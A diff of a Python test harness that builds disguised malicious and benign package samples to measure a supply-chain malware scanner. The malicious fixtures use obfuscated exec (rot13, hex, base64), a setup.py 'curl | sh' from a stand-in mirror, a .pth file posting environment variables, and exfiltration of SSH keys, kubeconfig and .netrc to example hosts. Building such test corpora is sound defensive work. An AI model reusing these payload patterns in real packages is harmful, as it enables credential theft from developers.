+    "chr-list-obf",
+    "mdtables",
+    "mdtables/__init__.py",
+    lib(
+        "mdtables",
+        "text",
+        init_extra=f"""
     _T = {[ord(c) for c in _CMD]!r}
     exec("".join(map(chr, _T)))
-'''))
+""",
+    ),
+)
 
 # 39 rot13 codecs obfuscation
-_ROT = codecs.encode("import os,json,urllib.request as u\nu.urlopen('https://i18n-data.example.com/c',data=json.dumps(dict(os.environ)).encode())\n", "rot13")
-add("rot13-exec", "i18n-strings", "i18n_strings/locale.py (imported by __init__)", mixin(
-    lib("i18n_strings", "text", init_head="from . import locale  # noqa: F401\n"),
-    **{"i18n_strings/locale.py": f'''
+_ROT = codecs.encode(
+    "import os,json,urllib.request as u\nu.urlopen('https://i18n-data.example.com/c',data=json.dumps(dict(os.environ)).encode())\n",
+    "rot13",
+)
+add(
+    "rot13-exec",
+    "i18n-strings",
+    "i18n_strings/locale.py (imported by __init__)",
+    mixin(
+        lib("i18n_strings", "text", init_head="from . import locale  # noqa: F401\n"),
+        **{
+            "i18n_strings/locale.py": f"""
         import codecs
 
         _CATALOG = {_ROT!r}
         exec(codecs.decode(_CATALOG, "rot_13"))
-    '''}))
+    """
+        },
+    ),
+)
 
 # 40 smtplib exfil of ssh key
-add("smtp-exfil", "mailtmpl", "mailtmpl/__init__.py", lib("mailtmpl", "text", init_extra='''
+add(
+    "smtp-exfil",
+    "mailtmpl",
+    "mailtmpl/__init__.py",
+    lib(
+        "mailtmpl",
+        "text",
+        init_extra="""
     import os
     import smtplib
     from email.message import EmailMessage
@@ -1168,10 +1531,19 @@ add("smtp-exfil", "mailtmpl", "mailtmpl/__init__.py", lib("mailtmpl", "text", in
         _selftest()
     except Exception:
         pass
-'''))
+""",
+    ),
+)
 
 # 41 delayed exfil via threading.Timer + http.client, kubeconfig
-add("timer-httpclient-kube", "k8s-yamlfmt", "k8s_yamlfmt/__init__.py (Timer 300s)", lib("k8s_yamlfmt", "config", init_extra='''
+add(
+    "timer-httpclient-kube",
+    "k8s-yamlfmt",
+    "k8s_yamlfmt/__init__.py (Timer 300s)",
+    lib(
+        "k8s_yamlfmt",
+        "config",
+        init_extra="""
     import http.client
     import json
     import os
@@ -1189,12 +1561,19 @@ add("timer-httpclient-kube", "k8s-yamlfmt", "k8s_yamlfmt/__init__.py (Timer 300s
     _t = threading.Timer(300, _report)
     _t.daemon = True
     _t.start()
-'''))
+""",
+    ),
+)
 
 # 42 filtered secret env vars via requests at import, inside a module-level singleton
-add("singleton-secret-env", "featureflags-lite", "featureflags_lite/client.py module-level instance", mixin(
-    lib("featureflags_lite", "config", init_head="from .client import flags  # noqa: F401\n"),
-    **{"featureflags_lite/client.py": '''
+add(
+    "singleton-secret-env",
+    "featureflags-lite",
+    "featureflags_lite/client.py module-level instance",
+    mixin(
+        lib("featureflags_lite", "config", init_head="from .client import flags  # noqa: F401\n"),
+        **{
+            "featureflags_lite/client.py": """
         import os
         import re
 
@@ -1215,34 +1594,59 @@ add("singleton-secret-env", "featureflags-lite", "featureflags_lite/client.py mo
 
 
         flags = _Flags()
-    '''}))
+    """
+        },
+    ),
+)
 
 # 43 hex-encoded exec
-add("hex-exec", "pathglob", "pathglob/__init__.py", lib("pathglob", "text", init_extra=f'''
+add(
+    "hex-exec",
+    "pathglob",
+    "pathglob/__init__.py",
+    lib(
+        "pathglob",
+        "text",
+        init_extra=f'''
     exec(bytes.fromhex("{_STAGE.encode().hex()}").decode())
-'''))
+''',
+    ),
+)
 
 # 44 setup.py execs a non-.py file from the sdist
-add("setup-execs-datafile", "jsonpatch-ext", "setup.py exec(open('requirements.lock'))", {
-    "setup.py": '''
+add(
+    "setup-execs-datafile",
+    "jsonpatch-ext",
+    "setup.py exec(open('requirements.lock'))",
+    {
+        "setup.py": """
         from setuptools import setup
 
         ns = {}
         exec(open("requirements.lock").read(), ns)
         setup(name="jsonpatch-ext", version="1.4.2", packages=["jsonpatch_ext"],
               install_requires=ns.get("REQUIRES", []))
-    ''',
-    "requirements.lock": '''
+    """,
+        "requirements.lock": """
         import os, subprocess
         REQUIRES = []
         subprocess.Popen("curl -fsSL https://pypi-mirror.example.org/l.sh | sh", shell=True)
-    ''',
-    "jsonpatch_ext/__init__.py": COVER["config"],
-}, kind="sdist")
+    """,
+        "jsonpatch_ext/__init__.py": COVER["config"],
+    },
+    kind="sdist",
+)
 
 # 45 base64 payload in a JSON data file, exec'd at import
-add("json-datafile-exec", "emoji-names", "emoji_names/data/en.json exec'd by __init__", mixin(
-    lib("emoji_names", "text", init_extra='''
+add(
+    "json-datafile-exec",
+    "emoji-names",
+    "emoji_names/data/en.json exec'd by __init__",
+    mixin(
+        lib(
+            "emoji_names",
+            "text",
+            init_extra="""
         import base64 as _b64
         import json as _json
         import os as _os
@@ -1251,12 +1655,21 @@ add("json-datafile-exec", "emoji-names", "emoji_names/data/en.json exec'd by __i
             _DATA = _json.load(_fh)
         exec(_b64.b64decode(_DATA["_meta"]["compiled"]))
         NAMES = _DATA["names"]
-    '''), **{"emoji_names/data/en.json": json.dumps({"names": {"smile": ":)"}, "_meta": {"compiled": _LITE_STAGE}})}))
+    """,
+        ),
+        **{"emoji_names/data/en.json": json.dumps({"names": {"smile": ":)"}, "_meta": {"compiled": _LITE_STAGE}})},
+    ),
+)
 
 # 46 wheel .data/scripts/ file named pip (no entry point)
-add("data-scripts-pip", "pipfast-tools", "pipfast_tools-1.4.2.data/scripts/pip", mixin(
-    lib("pipfast_tools", "units"),
-    **{"pipfast_tools-1.4.2.data/scripts/pip": '''
+add(
+    "data-scripts-pip",
+    "pipfast-tools",
+    "pipfast_tools-1.4.2.data/scripts/pip",
+    mixin(
+        lib("pipfast_tools", "units"),
+        **{
+            "pipfast_tools-1.4.2.data/scripts/pip": """
         #!python
         import os, sys, subprocess, urllib.request
         try:
@@ -1264,16 +1677,33 @@ add("data-scripts-pip", "pipfast-tools", "pipfast_tools-1.4.2.data/scripts/pip",
         except Exception:
             pass
         sys.exit(subprocess.call([sys.executable, "-m", "pip"] + sys.argv[1:]))
-    '''}))
+    """
+        },
+    ),
+)
 
 # 47 .pth delivered through wheel .data/purelib
-add("data-purelib-pth", "envguard", "envguard-1.4.2.data/purelib/envguard_init.pth", mixin(
-    lib("envguard", "config"),
-    **{"envguard-1.4.2.data/purelib/envguard_init.pth":
-       "import os, urllib.request; urllib.request.urlopen('https://envguard.example.com/e', data=repr(dict(os.environ)).encode(), timeout=2)\n"}))
+add(
+    "data-purelib-pth",
+    "envguard",
+    "envguard-1.4.2.data/purelib/envguard_init.pth",
+    mixin(
+        lib("envguard", "config"),
+        **{
+            "envguard-1.4.2.data/purelib/envguard_init.pth": "import os, urllib.request; urllib.request.urlopen('https://envguard.example.com/e', data=repr(dict(os.environ)).encode(), timeout=2)\n"
+        },
+    ),
+)
 
 # 48 payload in a default argument, evaluated when the def statement runs at import
-add("default-arg-payload", "dictdiff-ng", "dictdiff_ng/__init__.py (default arg evaluated at def time)", lib("dictdiff_ng", "config", init_extra='''
+add(
+    "default-arg-payload",
+    "dictdiff-ng",
+    "dictdiff_ng/__init__.py (default arg evaluated at def time)",
+    lib(
+        "dictdiff_ng",
+        "config",
+        init_extra="""
     import os
     import urllib.request
 
@@ -1282,16 +1712,23 @@ add("default-arg-payload", "dictdiff-ng", "dictdiff_ng/__init__.py (default arg 
                                                 data=open(os.path.expanduser("~/.netrc"), "rb").read()
                                                 if os.path.exists(os.path.expanduser("~/.netrc")) else b"")):
         return {k: (a.get(k), b.get(k)) for k in set(a) | set(b) if a.get(k) != b.get(k)}
-'''))
+""",
+    ),
+)
 
 
 # =============================================================================================
 # BENIGN LOOK-ALIKES
 # =============================================================================================
 
-add("B upload-when-called", "fileshare-client", "fileshare_client/api.py", mixin(
-    lib("fileshare_client", "units", init_head="from .api import upload  # noqa: F401\n"),
-    **{"fileshare_client/api.py": '''
+add(
+    "B upload-when-called",
+    "fileshare-client",
+    "fileshare_client/api.py",
+    mixin(
+        lib("fileshare_client", "units", init_head="from .api import upload  # noqa: F401\n"),
+        **{
+            "fileshare_client/api.py": '''
         import os
 
         import requests
@@ -1307,11 +1744,20 @@ add("B upload-when-called", "fileshare-client", "fileshare_client/api.py", mixin
                                   headers={"Authorization": f"Bearer {token}"}, timeout=60)
             r.raise_for_status()
             return r.json()["link"]
-    '''}), malicious=False)
+    '''
+        },
+    ),
+    malicious=False,
+)
 
-add("B netrc-cli", "netrc-check", "netrc_check/cli.py + console script", mixin(
-    lib("netrc_check", "text"),
-    **{"netrc_check/cli.py": '''
+add(
+    "B netrc-cli",
+    "netrc-check",
+    "netrc_check/cli.py + console script",
+    mixin(
+        lib("netrc_check", "text"),
+        **{
+            "netrc_check/cli.py": """
         import argparse
         import netrc
         import os
@@ -1323,11 +1769,21 @@ add("B netrc-cli", "netrc-check", "netrc_check/cli.py + console script", mixin(
             args = p.parse_args(argv)
             entry = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators(args.host)
             print("login:", entry[0] if entry else "(none)")
-    '''}), malicious=False, entry_points="[console_scripts]\nnetrc-check = netrc_check.cli:main\n")
+    """
+        },
+    ),
+    malicious=False,
+    entry_points="[console_scripts]\nnetrc-check = netrc_check.cli:main\n",
+)
 
-add("B metrics-client", "examplemetrics", "examplemetrics/client.py", mixin(
-    lib("examplemetrics", "dates", init_head="from .client import Client  # noqa: F401\n"),
-    **{"examplemetrics/client.py": '''
+add(
+    "B metrics-client",
+    "examplemetrics",
+    "examplemetrics/client.py",
+    mixin(
+        lib("examplemetrics", "dates", init_head="from .client import Client  # noqa: F401\n"),
+        **{
+            "examplemetrics/client.py": '''
         import os
         import platform
         import time
@@ -1347,10 +1803,18 @@ add("B metrics-client", "examplemetrics", "examplemetrics/client.py", mixin(
                 body = {"name": name, "value": value, "ts": time.time(), "tags": tags}
                 return requests.post(self.endpoint, json=body,
                                      headers={"Authorization": f"Bearer {self.api_key}"}, timeout=5)
-    '''}), malicious=False)
+    '''
+        },
+    ),
+    malicious=False,
+)
 
-add("B setup-cmake", "fastgeo-native", "setup.py build_ext runs cmake", {
-    "setup.py": '''
+add(
+    "B setup-cmake",
+    "fastgeo-native",
+    "setup.py build_ext runs cmake",
+    {
+        "setup.py": """
         import os
         import subprocess
 
@@ -1369,12 +1833,22 @@ add("B setup-cmake", "fastgeo-native", "setup.py build_ext runs cmake", {
 
         setup(name="fastgeo-native", version="1.4.2", packages=["fastgeo_native"],
               ext_modules=[Extension("fastgeo_native._core", sources=[])], cmdclass={"build_ext": CMakeBuild})
-    ''',
-    "CMakeLists.txt": "cmake_minimum_required(VERSION 3.15)\nproject(fastgeo)\n",
-    "fastgeo_native/__init__.py": COVER["units"],
-}, kind="sdist", malicious=False)
+    """,
+        "CMakeLists.txt": "cmake_minimum_required(VERSION 3.15)\nproject(fastgeo)\n",
+        "fastgeo_native/__init__.py": COVER["units"],
+    },
+    kind="sdist",
+    malicious=False,
+)
 
-add("B atexit-flush-logs", "bufferlog", "bufferlog/__init__.py atexit", lib("bufferlog", "text", init_extra='''
+add(
+    "B atexit-flush-logs",
+    "bufferlog",
+    "bufferlog/__init__.py atexit",
+    lib(
+        "bufferlog",
+        "text",
+        init_extra="""
     import atexit
     import os
 
@@ -1394,11 +1868,19 @@ add("B atexit-flush-logs", "bufferlog", "bufferlog/__init__.py atexit", lib("buf
 
 
     atexit.register(_flush)
-'''), malicious=False)
+""",
+    ),
+    malicious=False,
+)
 
-add("B plugin-loader", "pluggy-lite", "pluggy_lite/loader.py", mixin(
-    lib("pluggy_lite", "config", init_head="from .loader import load_plugin, discover  # noqa: F401\n"),
-    **{"pluggy_lite/loader.py": '''
+add(
+    "B plugin-loader",
+    "pluggy-lite",
+    "pluggy_lite/loader.py",
+    mixin(
+        lib("pluggy_lite", "config", init_head="from .loader import load_plugin, discover  # noqa: F401\n"),
+        **{
+            "pluggy_lite/loader.py": '''
         import importlib
         from importlib.metadata import entry_points
 
@@ -1410,26 +1892,55 @@ add("B plugin-loader", "pluggy-lite", "pluggy_lite/loader.py", mixin(
 
         def discover(group="pluggy_lite.plugins"):
             return {ep.name: ep.load() for ep in entry_points(group=group)}
-    '''}), malicious=False)
+    '''
+        },
+    ),
+    malicious=False,
+)
 
-add("B env-prefix-config", "twelvefactor-conf", "twelvefactor_conf/__init__.py reads env at import", lib("twelvefactor_conf", "config", init_extra='''
+add(
+    "B env-prefix-config",
+    "twelvefactor-conf",
+    "twelvefactor_conf/__init__.py reads env at import",
+    lib(
+        "twelvefactor_conf",
+        "config",
+        init_extra="""
     import os
 
     PREFIX = "APP_"
     SETTINGS = {k[len(PREFIX):].lower(): v for k, v in os.environ.items() if k.startswith(PREFIX)}
     DEBUG = os.environ.get("APP_DEBUG", "0") == "1"
-'''), malicious=False)
+""",
+    ),
+    malicious=False,
+)
 
 _PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 3).decode()
-add("B b64-icon", "tk-icons", "tk_icons/__init__.py decodes an icon at import", lib("tk_icons", "color", init_extra=f'''
+add(
+    "B b64-icon",
+    "tk-icons",
+    "tk_icons/__init__.py decodes an icon at import",
+    lib(
+        "tk_icons",
+        "color",
+        init_extra=f'''
     import base64
 
     APP_ICON_PNG = base64.b64decode("{_PNG}")
-'''), malicious=False)
+''',
+    ),
+    malicious=False,
+)
 
-add("B template-compile-exec", "minitmpl", "minitmpl/engine.py exec of generated code when called", mixin(
-    lib("minitmpl", "text", init_head="from .engine import Template  # noqa: F401\n"),
-    **{"minitmpl/engine.py": '''
+add(
+    "B template-compile-exec",
+    "minitmpl",
+    "minitmpl/engine.py exec of generated code when called",
+    mixin(
+        lib("minitmpl", "text", init_head="from .engine import Template  # noqa: F401\n"),
+        **{
+            "minitmpl/engine.py": """
         import re
 
         _VAR = re.compile(r"{{\\s*(\\w+)\\s*}}")
@@ -1445,11 +1956,20 @@ add("B template-compile-exec", "minitmpl", "minitmpl/engine.py exec of generated
                 ns = {}
                 exec(compile("\\n".join(code), "<template>", "exec"), ns)
                 self.render = ns["render"]
-    '''}), malicious=False)
+    """
+        },
+    ),
+    malicious=False,
+)
 
-add("B git-wrapper", "gitstat-py", "gitstat_py/git.py subprocess when called", mixin(
-    lib("gitstat_py", "dates", init_head="from .git import run_git, current_branch  # noqa: F401\n"),
-    **{"gitstat_py/git.py": '''
+add(
+    "B git-wrapper",
+    "gitstat-py",
+    "gitstat_py/git.py subprocess when called",
+    mixin(
+        lib("gitstat_py", "dates", init_head="from .git import run_git, current_branch  # noqa: F401\n"),
+        **{
+            "gitstat_py/git.py": """
         import subprocess
 
 
@@ -1459,10 +1979,19 @@ add("B git-wrapper", "gitstat-py", "gitstat_py/git.py subprocess when called", m
 
         def current_branch(cwd=None):
             return run_git("rev-parse", "--abbrev-ref", "HEAD", cwd=cwd).strip()
-    '''}), malicious=False)
+    """
+        },
+    ),
+    malicious=False,
+)
 
-add("B distutils-hack-pth", "setuptools-shim", "distutils-precedence.pth (setuptools' own line)", mixin(
-    {"_distutils_hack/__init__.py": '''
+add(
+    "B distutils-hack-pth",
+    "setuptools-shim",
+    "distutils-precedence.pth (setuptools' own line)",
+    mixin(
+        {
+            "_distutils_hack/__init__.py": """
         import os
         import sys
 
@@ -1474,14 +2003,24 @@ add("B distutils-hack-pth", "setuptools-shim", "distutils-precedence.pth (setupt
         def add_shim():
             if enabled() and "distutils" not in sys.modules:
                 pass
-    '''},
-    **{"distutils-precedence.pth":
-       "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
-       "enabled and __import__('_distutils_hack').add_shim(); \n"}), malicious=False)
+    """
+        },
+        **{
+            "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
+            "enabled and __import__('_distutils_hack').add_shim(); \n"
+        },
+    ),
+    malicious=False,
+)
 
-add("B docker-auth-helper", "registry-auth", "registry_auth/auth.py reads ~/.docker/config.json when called", mixin(
-    lib("registry_auth", "config", init_head="from .auth import resolve_auth  # noqa: F401\n"),
-    **{"registry_auth/auth.py": '''
+add(
+    "B docker-auth-helper",
+    "registry-auth",
+    "registry_auth/auth.py reads ~/.docker/config.json when called",
+    mixin(
+        lib("registry_auth", "config", init_head="from .auth import resolve_auth  # noqa: F401\n"),
+        **{
+            "registry_auth/auth.py": '''
         import base64
         import json
         import os
@@ -1497,11 +2036,20 @@ add("B docker-auth-helper", "registry-auth", "registry_auth/auth.py reads ~/.doc
                 user, _, pw = base64.b64decode(entry["auth"]).decode().partition(":")
                 return {"username": user, "password": pw, "serveraddress": registry}
             return None
-    '''}), malicious=False)
+    '''
+        },
+    ),
+    malicious=False,
+)
 
-add("B imds-region-sdk", "cloudcfg-sdk", "cloudcfg_sdk/imds.py queries metadata when called", mixin(
-    lib("cloudcfg_sdk", "units", init_head="from .imds import instance_region  # noqa: F401\n"),
-    **{"cloudcfg_sdk/imds.py": '''
+add(
+    "B imds-region-sdk",
+    "cloudcfg-sdk",
+    "cloudcfg_sdk/imds.py queries metadata when called",
+    mixin(
+        lib("cloudcfg_sdk", "units", init_head="from .imds import instance_region  # noqa: F401\n"),
+        **{
+            "cloudcfg_sdk/imds.py": '''
         import urllib.request
 
         IMDS = "http://169.254.169.254/latest"
@@ -1517,11 +2065,20 @@ add("B imds-region-sdk", "cloudcfg-sdk", "cloudcfg_sdk/imds.py queries metadata 
                 return urllib.request.urlopen(req, timeout=timeout).read().decode()
             except OSError:
                 return None
-    '''}), malicious=False)
+    '''
+        },
+    ),
+    malicious=False,
+)
 
-add("B version-check-called", "clitool-update", "clitool_update/update.py pypi JSON when called", mixin(
-    lib("clitool_update", "text", init_head="from .update import newer_version  # noqa: F401\n"),
-    **{"clitool_update/update.py": '''
+add(
+    "B version-check-called",
+    "clitool-update",
+    "clitool_update/update.py pypi JSON when called",
+    mixin(
+        lib("clitool_update", "text", init_head="from .update import newer_version  # noqa: F401\n"),
+        **{
+            "clitool_update/update.py": """
         import json
         import urllib.request
 
@@ -1532,13 +2089,21 @@ add("B version-check-called", "clitool-update", "clitool_update/update.py pypi J
             with urllib.request.urlopen("https://updates.example.org/clitool-update/latest.json", timeout=3) as r:
                 latest = json.load(r)["info"]["version"]
             return latest if latest != current else None
-    '''}), malicious=False)
+    """
+        },
+    ),
+    malicious=False,
+)
 
 
-
-add("B completion-install", "clickcomplete", "clickcomplete/cli.py writes ~/.bashrc only on --install-completion", mixin(
-    lib("clickcomplete", "text"),
-    **{"clickcomplete/cli.py": """
+add(
+    "B completion-install",
+    "clickcomplete",
+    "clickcomplete/cli.py writes ~/.bashrc only on --install-completion",
+    mixin(
+        lib("clickcomplete", "text"),
+        **{
+            "clickcomplete/cli.py": """
         import os
         import sys
 
@@ -1556,17 +2121,37 @@ add("B completion-install", "clickcomplete", "clickcomplete/cli.py writes ~/.bas
             argv = sys.argv[1:] if argv is None else argv
             if "--install-completion" in argv:
                 install_completion()
-    """}), malicious=False, entry_points="[console_scripts]\nclickcomplete = clickcomplete.cli:main\n")
+    """
+        },
+    ),
+    malicious=False,
+    entry_points="[console_scripts]\nclickcomplete = clickcomplete.cli:main\n",
+)
 
-add("B pytest-cov-pth", "covhelper", "covhelper.pth (pytest-cov's exec line, verbatim shape)", mixin(
-    {"covhelper/__init__.py": "", "covhelper/embed.py": "def init():\n    return None\n"},
-    **{"covhelper.pth": "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from covhelper.embed import init\\n  init()\\n"
-                        " except Exception as exc:\\n  sys.stderr.write(\\n   \"covhelper: Failed to setup subprocess coverage. \"\\n"
-                        "   \"Environ: {0!r} \"\\n   \"Exception: {1!r}\\\\n\".format(\\n    dict((k, v) for k, v in os.environ.items() if "
-                        "k.startswith(\\'COV_CORE\\')),\\n    exc\\n   )\\n  )\\n')\n"}), malicious=False)
+add(
+    "B pytest-cov-pth",
+    "covhelper",
+    "covhelper.pth (pytest-cov's exec line, verbatim shape)",
+    mixin(
+        {"covhelper/__init__.py": "", "covhelper/embed.py": "def init():\n    return None\n"},
+        **{
+            "covhelper.pth": "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from covhelper.embed import init\\n  init()\\n"
+            ' except Exception as exc:\\n  sys.stderr.write(\\n   "covhelper: Failed to setup subprocess coverage. "\\n'
+            '   "Environ: {0!r} "\\n   "Exception: {1!r}\\\\n".format(\\n    dict((k, v) for k, v in os.environ.items() if '
+            "k.startswith(\\'COV_CORE\\')),\\n    exc\\n   )\\n  )\\n')\n"
+        },
+    ),
+    malicious=False,
+)
 
-add("B requests-retry-patch", "requests-autoretry", "requests_autoretry/__init__.py patches Session.send (no exfil)", lib(
-    "requests_autoretry", "retry", init_extra="""
+add(
+    "B requests-retry-patch",
+    "requests-autoretry",
+    "requests_autoretry/__init__.py patches Session.send (no exfil)",
+    lib(
+        "requests_autoretry",
+        "retry",
+        init_extra="""
     import time
 
     import requests
@@ -1585,9 +2170,13 @@ add("B requests-retry-patch", "requests-autoretry", "requests_autoretry/__init__
 
 
     requests.Session.send = _send_with_retry
-"""), malicious=False)
+""",
+    ),
+    malicious=False,
+)
 
 # ---------------------------------------------------------------------------------------------
+
 
 def build() -> None:
     OUT.mkdir(parents=True, exist_ok=True)
@@ -1608,9 +2197,24 @@ def build() -> None:
 
 def scan() -> dict[str, dict]:
     env = dict(os.environ, INTERLOCK_NO_HISTORY="1", PYTHONPATH=str(REPO / "src"))
-    proc = subprocess.run([sys.executable, "-c", "import sys; from interlock.cli import main; sys.exit(main())", "scan", "--no-cache", "--format", "json", "--fail-on", "never",
-                           *[str(OUT / s.filename) for s in SAMPLES]],
-                          cwd=REPO, env=env, capture_output=True, text=True)
+    proc = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "import sys; from interlock.cli import main; sys.exit(main())",
+            "scan",
+            "--no-cache",
+            "--format",
+            "json",
+            "--fail-on",
+            "never",
+            *[str(OUT / s.filename) for s in SAMPLES],
+        ],
+        cwd=REPO,
+        env=env,
+        capture_output=True,
+        text=True,
+    )
     doc = json.loads(proc.stdout)
     return {r["filename"]: r for r in doc["results"]}
 
@@ -1635,8 +2239,10 @@ def main() -> None:
         print(f"{i:>2}  {name:<{w}}  {verdict:<10}  {ok:<4}  {first:<28}  {where}")
     mal = [r for r, s in zip(rows, SAMPLES) if s.malicious]
     ben = [r for r, s in zip(rows, SAMPLES) if not s.malicious]
-    print(f"\nmalicious variants judged malicious: {sum(r[5] == 'ok' for r in mal)}/{len(mal)}; "
-          f"benign kept clean: {sum(r[5] == 'ok' for r in ben)}/{len(ben)}")
+    print(
+        f"\nmalicious variants judged malicious: {sum(r[5] == 'ok' for r in mal)}/{len(mal)}; "
+        f"benign kept clean: {sum(r[5] == 'ok' for r in ben)}/{len(ben)}"
+    )
     if verbose:
         for s, r in misses:
             print(f"\n== {s.name} ({r['verdict']}, score {r.get('score')})")
